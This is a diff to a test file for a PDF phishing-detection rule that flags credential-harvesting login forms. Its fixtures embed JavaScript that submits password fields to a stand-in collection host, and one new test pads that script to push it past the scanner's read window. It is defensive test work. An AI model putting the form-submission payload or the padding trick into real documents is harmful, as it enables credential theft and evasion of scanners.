@@ -1,7 +1,7 @@
 // lure-login-form on PDFs built in code: a credential form is structure (fields, flags, a submit
 // action), so the fast stage establishes it without rendering; field names are read in many languages.
 import { describe, expect, it } from "vitest";
-import { DEFAULT_LIMITS } from "../../limits";
+import { DEFAULT_LIMITS, defaultBudget, type Budget } from "../../limits";
 import { readPdf } from "../../pdf/document";
 import { hexString } from "../../pdf/testing/pdf-builder";
 import { collectFacts } from "../facts/document-facts";
@@ -25,7 +25,7 @@ function loginForm(opts: { password?: string; submit?: string; script?: string }
 }
 
 const factsOf = (spec: LureDocument) => collectFacts(readPdf(buildLurePdf(spec), DEFAULT_LIMITS), DEFAULT_LIMITS);
-const check = (spec: LureDocument) => lureLoginForm.check(factsOf(spec));
+const check = (spec: LureDocument) => lureLoginForm.check(factsOf(spec), defaultBudget());
 
 describe("lure-login-form", () => {
   it("is a fast-stage rule: a form is read from structure", () => {
@@ -39,6 +39,18 @@ describe("lure-login-form", () => {
   it("fires on a password-like name and a script's submitForm", () => {
     const hit = check(loginForm({ password: "/T (Passwort)", script: 'this.submitForm({cURL: "https://collect.example/p", cSubmitAs: "HTML"});' }));
     expect(hit?.confidence).toBe("medium");
+  });
+
+  it("searches FORM_SCRIPT_SCAN_CHARS of a script for submitForm and reports a longer script", () => {
+    // the submission after padding: read within the window, missed (and reported) past it
+    const script = `var pad = "${"x".repeat(2000)}";\nthis.submitForm({cURL: "https://collect.example/p"});`;
+    const facts = factsOf(loginForm({ password: "/T (pwd) /Ff 8192", script }));
+    const narrow: Budget = { limits: { ...DEFAULT_LIMITS, FORM_SCRIPT_SCAN_CHARS: 1000 }, budgetHits: new Set() };
+    expect(lureLoginForm.check(facts, narrow)).toBeNull();
+    expect([...narrow.budgetHits]).toEqual(["FORM_SCRIPT_SCAN_CHARS"]);
+    const wide = defaultBudget();
+    expect(lureLoginForm.check(facts, wide)).not.toBeNull();
+    expect(wide.budgetHits.size).toBe(0);
   });
 
   it("does not fire without a password field, without a submission, or when mailing the form", () => {
